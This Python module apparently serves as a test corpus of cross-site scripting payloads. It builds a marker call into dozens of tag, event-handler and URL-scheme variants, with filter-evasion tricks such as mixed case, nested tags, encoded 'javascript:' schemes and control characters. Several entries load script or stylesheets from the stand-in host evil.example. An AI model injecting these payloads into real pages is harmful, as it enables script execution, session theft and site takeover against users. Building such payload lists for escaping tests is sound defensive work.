"""Texts that would run a script wherever a page forgets to escape them."""

from collections.abc import Iterator
from itertools import product

CALL = "document.documentElement.dataset.hit=1"

_SHAPES = (
    "<script>{c}</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>{c}</scr</script>ipt>",
    "<script/x>{c}</script >",
    "<script\t>{c}</script\n>",
    "</title><script>{c}</script>",
    "</textarea><script>{c}</script>",
    "</option></select><script>{c}</script>",
    "</script><script>{c}</script>",
    "<img src=x onerror={c}>",
    "<img src=x onerror='{c}'>",
    '<img src=x onerror="{c}">',
    "<IMG SRC=x OnErRoR={c}>",
    "<img/src=x/onerror={c}>",
    "<img src=x:x onerror\n=\n{c}>",
    "<svg onload={c}>",
    "<svg/onload={c}>",
    "<svg><script>{c}</script></svg>",
    "<svg><animate onbegin={c} attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:{c}'><text x=9 y=9>a</text></a></svg>",
    "<body onload={c}>",
    "<details open ontoggle={c}>",
    "<input autofocus onfocus={c}>",
    "<select autofocus onfocus={c}>",
    "<textarea autofocus onfocus={c}>",
    "<video src=x onerror={c}>",
    "<video><source onerror={c}>",
    "<audio src=x onerror={c}>",
    "<iframe src='javascript:{c}'></iframe>",
    "<iframe srcdoc='<script>{c}</script>'></iframe>",
    "<object data='javascript:{c}'></object>",
    "<embed src='javascript:{c}'>",
    "<a href='javascript:{c}' autofocus>go</a>",
    "<form action='javascript:{c}'><button>go",
    "<math><mtext><script>{c}</script></mtext></math>",
    "<meta http-equiv=refresh content='0;url=javascript:{c}'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<base href=//evil.example/>",
    "<marquee onstart={c}>x</marquee>",
    "<template><script>{c}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={c}>'>",
    "<!--><script>{c}</script-->",
    "<![CDATA[<script>{c}</script>]]>",
    "'><script>{c}</script>",
    '"><script>{c}</script>',
    "' onmouseover='{c}' autofocus onfocus='{c}",
    '" onmouseover="{c}" autofocus onfocus="{c}',
    "` onerror=`{c}",
    "{{{{ 7*7 }}}} {{% for x in config %}}{{{{ x }}}}{{% endfor %}}",
    "${{{c}}}",
    "javascript:{c}//",
    "&lt;script&gt;{c}&lt;/script&gt;",
    "%3Cscript%3E{c}%3C/script%3E",
    "\\u003cscript\\u003e{c}\\u003c/script\\u003e",
    "\u202e<script>{c}</script>",
    "＜script＞{c}＜/script＞<script>{c}</script>",
    "<script>{c}</script",
    "\x00<script>{c}</script>",
    "<x onclick={c} tabindex=1 id=x autofocus onfocus={c}>",
)

_EVENTS = (
    *("onabort", "onanimationend", "onanimationstart", "onauxclick", "onbeforeinput", "onblur"),
    *("oncanplay", "onchange", "onclick", "onclose", "oncontextmenu", "oncopy", "oncut"),
    *("ondblclick", "ondrag", "ondrop", "ondurationchange", "onended", "onerror", "onfocus"),
    *("onfocusin", "onhashchange", "oninput", "oninvalid", "onkeydown", "onkeyup", "onload"),
    *("onmessage", "onmouseenter", "onmousemove", "onmouseout", "onmouseover", "onpageshow"),
    *("onpaste", "onplay", "onpointerdown", "onpointerenter", "onpopstate", "onprogress"),
    *("onresize", "onscroll", "onsearch", "onselect", "onsubmit", "ontoggle", "ontouchstart"),
    *("ontransitionend", "onwheel"),
)
_TAGS = ("svg", "img src=x", "input autofocus", "video src=x", "p tabindex=0")
"""A handler of each kind on tags in turn, quoted in turn: what an escape misses, it misses here."""

_SCHEMES = (
    "javascript:{c}",
    "JaVaScRiPt:{c}",
    "java\tscript:{c}",
    "java&#10;script:{c}",
    "&#106;avascript:{c}",
    "&#x6A;avascript&colon;{c}",
    "\x01javascript:{c}",
    "data:text/html,<script>{c}</script>",
    "data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+",
    "vbscript:{c}",
)
_HOLDERS = (
    "<a href='{u}' autofocus>x</a>",
    "<iframe src='{u}'></iframe>",
    "<form action='{u}'><input type=submit>",
    "<object data='{u}'></object>",
    "<area href='{u}'>",
    "<button formaction='{u}'>x",
    "<img src='{u}'>",
    "<base href='{u}'>",
    "<link rel=stylesheet href='{u}'>",
    "<meta http-equiv=refresh content='0;url={u}'>",
)


def _more() -> Iterator[str]:
    for number, event in enumerate(_EVENTS):
        quote = ("", "'", '"')[number % 3]
        yield f"<{_TAGS[number % len(_TAGS)]} {event}={quote}{CALL}{quote}>"
    for number, (scheme, holder) in enumerate(product(_SCHEMES, _HOLDERS)):
        yield f"{number}{holder.format(u=scheme.format(c=CALL))}"


PAYLOADS = tuple(shape.format(c=CALL) for shape in _SHAPES)
"""Each is worth a text of its own, and stands in every name."""

MORE = tuple(_more())
"""Told in few threads, a page each."""
